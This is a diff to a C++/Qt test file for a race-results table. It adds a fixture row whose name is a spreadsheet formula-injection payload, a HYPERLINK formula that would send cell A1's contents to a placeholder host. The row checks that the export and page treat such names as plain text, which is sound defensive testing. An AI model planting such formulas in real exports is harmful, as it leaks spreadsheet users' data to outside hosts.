@@ -12,12 +12,14 @@ namespace {
 
 TCellStore raceTable()
 {
-    TCellStore cells(7, 5);
+    TCellStore cells(7, 6);
     cells.SetRow(0, { "Nr.", "Name", "Start", "Zeit", "Split", "Platz", "*" });
     cells.SetRow(1, { "3", "Berg", "10:05.03,12", "1.05,12", "0,00", "1", "65120" });
     cells.SetRow(2, { "7", QStringLiteral("Müller, Anna, €"), "10:05.20,40", "", "0.17,28", "-", "1234567" });
     cells.SetRow(3, { "9", "A<B & C", "10:05.30,00", "1.10,00", "0.26,88", "2", "70000" });
-    cells.SetRow(4, { "", "", "", "", "", "-", "" });
+    // The names the CSV export guards against: the page shows them as text.
+    cells.SetRow(4, { "11", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "", "", "", "-", "" });
+    cells.SetRow(5, { "", "", "", "", "", "-", "" });
     return cells;
 }
 
@@ -88,7 +90,9 @@ private slots:
         QCOMPARE(table,
             QList<QStringList>({ { "3", "Berg", "10:05.03.12", "1.05.12", "0.00", "1" },
                 { "7", QStringLiteral("Müller, Anna, €"), "10:05.20.40", "", "0.17.28", "-" },
-                { "9", "A<B & C", "10:05.30.00", "1.10.00", "0.26.88", "2" }, { "", "", "", "", "", "-" } }));
+                { "9", "A<B & C", "10:05.30.00", "1.10.00", "0.26.88", "2" },
+                { "11", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "", "", "", "-" },
+                { "", "", "", "", "", "-" } }));
         QVERIFY(!dom.contains(QLatin1String("65120")));
     }
 };
